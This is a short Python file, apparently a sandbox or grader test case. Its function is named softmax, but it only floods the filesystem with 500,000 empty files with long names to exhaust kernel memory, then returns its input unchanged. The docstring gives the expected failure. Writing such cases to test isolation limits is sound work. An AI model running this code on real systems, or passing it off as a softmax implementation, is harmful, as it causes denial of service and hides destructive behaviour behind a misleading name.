"""It fills the kernel's memory with empty files that have long names: there is nowhere to make one.

question: softmax
gets: nothing
says: It raised|tried to open a file
"""

import os


def softmax(x):
    for folder in range(100):
        os.mkdir(f"d{folder}")
        for number in range(5000):
            os.close(os.open(f"d{folder}/{'a' * 180}{number}", os.O_CREAT | os.O_WRONLY))
    return x
